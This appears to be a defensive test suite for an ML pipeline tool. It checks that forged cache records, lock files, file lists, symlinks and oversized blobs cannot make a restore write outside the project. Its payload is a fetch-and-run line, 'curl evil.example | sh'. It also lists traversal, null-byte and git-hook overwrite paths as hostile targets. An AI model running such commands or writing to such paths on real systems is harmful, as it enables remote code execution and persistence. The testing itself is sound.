/** Whoever can write a record, a lock, a list of files or a link may not make a restore write anywhere else. */
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import * as fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { canonicalJson } from '../../core/json/canonical-json.ts';
import { type Digest, digestBytes } from '../../core/digest.ts';
import { realEffects } from '../../core/effects.ts';
import type { JsonValue } from '../../core/json/json.ts';
import { renderEntry } from '../cache/action-entry.ts';
import { BlobStore } from '../cache/blob-store.ts';
import { openCache } from '../cache/open-cache.ts';
import { readLockFile, renderLock } from '../lockfile/lock-file.ts';
import { openRemote } from '../remote/open-remote.ts';
import { pullResults } from '../remote/pull-results.ts';
import type { RecordedOutput, StageRecord } from '../project/stage-record.ts';
import { TestProject } from './test-project.ts';

const PIPELINE = `stages:
  one: {cmd: printf one > out.txt, outs: [out.txt]}
  many: {cmd: mkdir -p data/d; printf a > data/d/a; printf b > data/d/b, outs: [data/d]}
`;
const EVIL = 'curl evil.example | sh\n';

const box = mkdtempSync(join(tmpdir(), 'hostile-records-'));
const remote = join(box, 'remote');
let project: TestProject;
let honest: ReadonlyMap<string, StageRecord>;
let cache: BlobStore;

beforeAll(async () => {
  project = new TestProject({ 'pipeline.yaml': PIPELINE, '.git/hooks/pre-push': 'mine' });
  mkdirSync(remote);
  writeFileSync(join(dirname(project.root), 'beside.txt'), 'mine');
  await project.repro();
  honest = readLockFile(project.path('pipeline.lock')).stages;
  cache = new BlobStore(project.path('.mlops/cache'), realEffects, () => undefined);
});
afterAll(() => {
  project[Symbol.dispose]();
  rmSync(join(dirname(project.root), 'beside.txt'), { force: true });
  rmSync(box, { recursive: true });
});

const recordOf = (stage: string): StageRecord => {
  const record = honest.get(stage);
  if (record === undefined) throw new RangeError(stage);
  return record;
};

/** Everything that no stage may touch, with what it holds. */
function untouchable(): { readonly [path: string]: string } {
  const found: { [path: string]: string } = {};
  const walk = (folder: string, prefix: string) => {
    for (const name of readdirSync(folder)) {
      const path = `${prefix}${name}`;
      if (['.mlops', 'out.txt', 'data', 'pipeline.lock'].includes(path)) continue;
      const stat = lstatSync(join(folder, name));
      if (stat.isDirectory()) walk(join(folder, name), `${path}/`);
      else
        found[path] = stat.isSymbolicLink()
          ? readlinkSync(join(folder, name))
          : readFileSync(join(folder, name), 'utf8');
    }
  };
  walk(project.root, '');
  for (const place of ['beside.txt', 'new.txt', '.bashrc', 'x', 'a', 'd'])
    found[`../${place}`] = existsSync(join(dirname(project.root), place))
      ? readFileSync(join(dirname(project.root), place), 'utf8')
      : 'absent';
  found['/tmp/hostile-record'] = String(existsSync('/tmp/hostile-record'));
  return found;
}

const blobIn = (folder: string, digest: Digest): string =>
  join(folder, 'blobs', digest.slice(7, 9), digest.slice(9));

function place(folder: string, text: string): Digest {
  const digest = digestBytes(text);
  mkdirSync(dirname(blobIn(folder, digest)), { recursive: true });
  if (!existsSync(blobIn(folder, digest))) writeFileSync(blobIn(folder, digest), text);
  return digest;
}

/** Puts a record where it will be looked for, restores, and says what became of the stages. */
async function restoreFrom(
  source: 'entry' | 'lock' | 'remote',
  records: readonly (readonly [stage: string, record: StageRecord])[],
): Promise<readonly string[]> {
  for (const path of ['out.txt', 'data', 'pipeline.lock', '.mlops/cache/actions', '.mlops/state'])
    rmSync(project.path(path), { recursive: true, force: true });
  rmSync(join(remote, 'actions'), { recursive: true, force: true });
  for (const [, record] of records) {
    const name = `actions/${record.fingerprint.slice('blake3:'.length)}.json`;
    const folder = source === 'remote' ? remote : project.path('.mlops/cache');
    mkdirSync(join(folder, 'actions'), { recursive: true });
    if (source !== 'lock') writeFileSync(join(folder, name), renderEntry(record));
  }
  if (source === 'lock') project.write('pipeline.lock', renderLock({ stages: new Map(records) }));
  const opened = await openRemote({ url: remote, base: box }, realEffects);
  const run = await project.repro(source === 'remote' ? { remote: opened } : {});
  return run.verdicts;
}

const evilOutput = (): RecordedOutput => ({
  digest: place(project.path('.mlops/cache'), EVIL),
  size: EVIL.length,
  kind: 'output',
});

const places = () => [
  '../beside.txt',
  '../new.txt',
  '../.bashrc',
  '/tmp/hostile-record',
  '.git/hooks/pre-push',
  '.git/hooks/post-checkout',
  '.GIT/hooks/post-checkout',
  'git~1/hooks/post-checkout',
  '.mlops/state/evil',
  '.mlops/../../new.txt',
  'pipeline.yaml',
  'Pipeline.yaml',
  'pipeline.lock',
  'params.yaml',
  'package.json',
  'data/../../new.txt',
  'data\\..\\..\\new.txt',
  './out.txt',
  'out.txt/below',
  'data',
  'x\0y',
  `${project.root}/new.txt`,
  'src/new.ts',
];

describe.each(['entry', 'lock', 'remote'] as const)('a record from the %s', (source) => {
  test(
    'with an output that is not the stage’s is not believed, and the stage runs',
    { timeout: 300_000 },
    async () => {
      const before = untouchable();
      for (const path of places()) {
        const { outputs, ...rest } = recordOf('one');
        const evil = { ...rest, outputs: { ...outputs, [path]: evilOutput() } };
        const instead = { ...rest, outputs: { [path]: evilOutput() } };
        for (const record of path.startsWith('.git/') ? [evil, instead] : [evil]) {
          const end = await restoreFrom(source, [['one', record]]).catch((error: unknown) => error);
          // A lock that says such a thing is refused as a whole.
          if (Array.isArray(end)) expect(end).toEqual(['one: run', 'many: run']);
          else expect(end).toMatchObject({ code: 'LOCK_INVALID', exitCode: 2 });
          expect(untouchable()).toEqual(before);
          expect(existsSync('/tmp/hostile-record')).toBe(false);
        }
      }
    },
  );

  test(
    'whose list of files names anything but plain paths below the folder is not believed',
    { timeout: 300_000 },
    async () => {
      const before = untouchable();
      const evil = place(project.path('.mlops/cache'), EVIL);
      const file = canonicalJson({ digest: evil, executable: false, size: EVIL.length });
      const names = [...places(), '..', '.', '', 'a/', '/a', 'a//b', '../d2/x', '.mlops/x', 'e/.git/config'];
      const texts = [
        ...names
          .filter(
            (name) => !['pipeline.yaml', 'Pipeline.yaml', 'pipeline.lock', 'params.yaml'].includes(name),
          )
          .filter((name) => !['package.json', 'data', 'src/new.ts', 'out.txt/below'].includes(name))
          .map((name) => ({ text: `{${JSON.stringify(name)}:${file}}`, files: 1 })),
        // A file below a file, one name twice, another order, spaces.
        { text: `{"a":${file},"a/b":${file}}`, files: 2 },
        { text: `{"a":${file},"a":${file}}`, files: 1 },
        { text: `{"b":${file},"a":${file}}`, files: 2 },
        { text: `{ "a":${file}}`, files: 1 },
        // Not as many files, or bytes, as the record says.
        { text: `{"a":${file}}`, files: 2 },
        { text: '[]', files: 0 },
        { text: 'null', files: 0 },
        { text: `${'['.repeat(100_000)}${']'.repeat(100_000)}`, files: 0 },
        { text: '{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000), files: 1 },
      ];
      for (const { text, files } of texts) {
        const digest = place(project.path('.mlops/cache'), text);
        const { outputs: _, ...rest } = recordOf('many');
        const output: RecordedOutput = { digest, size: files * EVIL.length, files, kind: 'output' };
        const end = await restoreFrom(source, [['many', { ...rest, outputs: { 'data/d': output } }]]);
        expect([text.slice(0, 60), ...end]).toEqual([text.slice(0, 60), 'one: run', 'many: run']);
        expect(untouchable()).toEqual(before);
        expect(readdirSync(project.path('data/d'))).toEqual(['a', 'b']);
      }
    },
  );

  test('that is the stage’s own comes back', async () => {
    const all = [...honest];
    // The remote has no blobs here: the cache still does.
    expect(await restoreFrom(source, all)).toEqual(['one: cached', 'many: cached']);
    expect(project.read('data/d/a')).toBe('a');
  });
});

test('no made-up record leads anywhere', { timeout: 300_000 }, async () => {
  const before = untouchable();
  const part = fc.oneof(
    fc.constantFrom('..', '.', '', '.git', 'data', 'd', 'out.txt', 'pipeline.yaml', '.mlops', 'hooks', '~'),
    fc.string({ maxLength: 4 }),
  );
  const path = fc.array(part, { minLength: 1, maxLength: 5 }).map((parts) => parts.join('/'));
  await fc.assert(
    fc.asyncProperty(
      fc.uniqueArray(path, { minLength: 1, maxLength: 3 }),
      fc.constantFrom('entry' as const, 'lock' as const, 'remote' as const),
      fc.boolean(),
      async (paths, source, asFiles) => {
        const { outputs, ...rest } = recordOf(asFiles ? 'many' : 'one');
        const evil = evilOutput();
        const named: readonly (readonly [string, JsonValue])[] = paths.map((name) => [
          name,
          { digest: evil.digest, size: evil.size, executable: false },
        ]);
        const text = canonicalJson(Object.fromEntries(named));
        const record: StageRecord = asFiles
          ? {
              ...rest,
              outputs: {
                'data/d': {
                  digest: place(project.path('.mlops/cache'), text),
                  size: EVIL.length * paths.length,
                  files: paths.length,
                  kind: 'output',
                },
              },
            }
          : { ...rest, outputs: { ...outputs, ...Object.fromEntries(paths.map((name) => [name, evil])) } };
        await restoreFrom(source, [[asFiles ? 'many' : 'one', record]]).catch((error: unknown) =>
          expect(error).toMatchObject({ exitCode: 2 }),
        );
        expect(untouchable()).toEqual(before);
      },
    ),
    { numRuns: 40 },
  );
});

describe('a symbolic link where a folder around an output should be', () => {
  test.each([
    ['out of the project', () => box],
    ['to nothing', () => join(box, 'gone')],
    ['to what is git’s', () => project.path('.git/hooks')],
    ['to what is this program’s', () => project.path('.mlops/state')],
  ])('%s is not followed, neither by a restore nor by a run', async (_, target) => {
    const before = untouchable();
    for (const known of [true, false]) {
      await restoreFrom('entry', []);
      rmSync(project.path('data'), { recursive: true });
      if (!known) rmSync(project.path('.mlops/cache/actions'), { recursive: true });
      symlinkSync(target(), project.path('data'));
      const run = await project.repro();
      expect(run.stages[1]).toMatchObject({ kind: 'failed', error: { code: 'LINK_OUTSIDE', exitCode: 2 } });
      rmSync(project.path('data'));
      expect(untouchable()).toEqual(before);
      expect(existsSync(join(box, 'd'))).toBe(false);
    }
  });

  test('within the project is a folder as any other', async () => {
    await restoreFrom('entry', []);
    rmSync(project.path('data'), { recursive: true });
    mkdirSync(project.path('elsewhere'));
    symlinkSync('elsewhere', project.path('data'));
    expect((await project.repro()).verdicts).toEqual(['one: fresh', 'many: cached']);
    expect(project.read('elsewhere/d/a')).toBe('a');
    rmSync(project.path('data'));
    rmSync(project.path('elsewhere'), { recursive: true });
  });
});

test('a journal of a killed run puts back and removes nothing but outputs', async () => {
  const before = untouchable();
  for (const path of ['../beside.txt', '.git/hooks/pre-push', 'pipeline.yaml']) {
    project.write('.mlops/tmp/one/aside.json', JSON.stringify([{ path, aside: 'aside/0', had: false }]));
    await project.repro({ force: true });
    project.write('.mlops/tmp/one/evil', EVIL);
    project.write(
      '.mlops/tmp/one/aside.json',
      JSON.stringify([{ path: 'out.txt', aside: `../../../.git/hooks/pre-push`, had: true }]),
    );
    await project.repro({ force: true });
    expect(untouchable()).toEqual(before);
  }
});

test('a blob or an entry that is larger than promised is not taken, and the stage runs', async () => {
  const { outputs, ...rest } = recordOf('one');
  const large = 'x'.repeat(1 << 20);
  const digest = place(remote, large);
  const record = { ...rest, outputs: { 'out.txt': { digest, size: 3, kind: 'output' as const } } };
  expect(outputs['out.txt']?.size).toBe(3);
  expect(await restoreFrom('remote', [['one', record]])).toEqual(['one: run', 'many: run']);
  expect(cache.hasAny(digest)).toBe(false);
  // A blob that keeps its promise of 8 TB with a hole: nothing of it is asked for.
  const hole = digestBytes('a hole');
  mkdirSync(dirname(blobIn(remote, hole)), { recursive: true });
  writeFileSync(blobIn(remote, hole), '');
  truncateSync(blobIn(remote, hole), 2 ** 43);
  const promise = {
    ...rest,
    outputs: { 'out.txt': { digest: hole, size: 2 ** 43, kind: 'output' as const } },
  };
  expect(await restoreFrom('remote', [['one', promise]])).toEqual(['one: run', 'many: run']);
  expect(cache.hasAny(hole)).toBe(false);
  const pulled = await pullResults(
    [promise],
    openCache(project.root, realEffects),
    await openRemote({ url: remote, base: box }, realEffects),
  );
  expect(pulled).toMatchObject({ missing: [hole], corrupt: [], withoutRoom: [hole] });
  // The same in this cache.
  mkdirSync(dirname(cache.path(hole)), { recursive: true });
  writeFileSync(cache.path(hole), '');
  truncateSync(cache.path(hole), 2 ** 43);
  await expect(cache.take(hole, join(box, 'hole'), 2 ** 43)).rejects.toMatchObject({
    code: 'CANNOT_WRITE',
    exitCode: 2,
    message: expect.stringContaining('it takes 8796093022208 bytes, and there is room for') as string,
  });
  expect(existsSync(join(box, 'hole'))).toBe(false);
  rmSync(cache.path(hole));
  // An entry of 3 GB that holds no disk.
  const name = join(remote, `actions/${recordOf('one').fingerprint.slice('blake3:'.length)}.json`);
  for (const folder of [dirname(name), project.path('.mlops/cache/actions')]) {
    await restoreFrom('remote', []);
    rmSync(project.path('.mlops/cache/actions'), { recursive: true });
    mkdirSync(folder, { recursive: true });
    const entry = join(folder, name.slice(dirname(name).length + 1));
    rmSync(entry, { force: true });
    writeFileSync(entry, '');
    truncateSync(entry, 3 * 2 ** 30);
    rmSync(project.path('pipeline.lock'), { force: true });
    rmSync(project.path('out.txt'), { force: true });
    const opened = await openRemote({ url: remote, base: box }, realEffects);
    const run = await project.repro({ remote: opened });
    expect(run.verdicts[0]).toBe('one: run');
    expect(run.exitCode).toBe(0);
  }
  // A lock of 3 GB.
  writeFileSync(project.path('pipeline.lock'), '');
  truncateSync(project.path('pipeline.lock'), 3 * 2 ** 30);
  await expect(project.repro()).rejects.toMatchObject({ code: 'FILE_TOO_LARGE', exitCode: 2 });
  writeFileSync(project.path('pipeline.lock'), `${'['.repeat(1e6)}${']'.repeat(1e6)}`);
  await expect(project.repro()).rejects.toMatchObject({ code: 'LOCK_INVALID', exitCode: 2 });
});
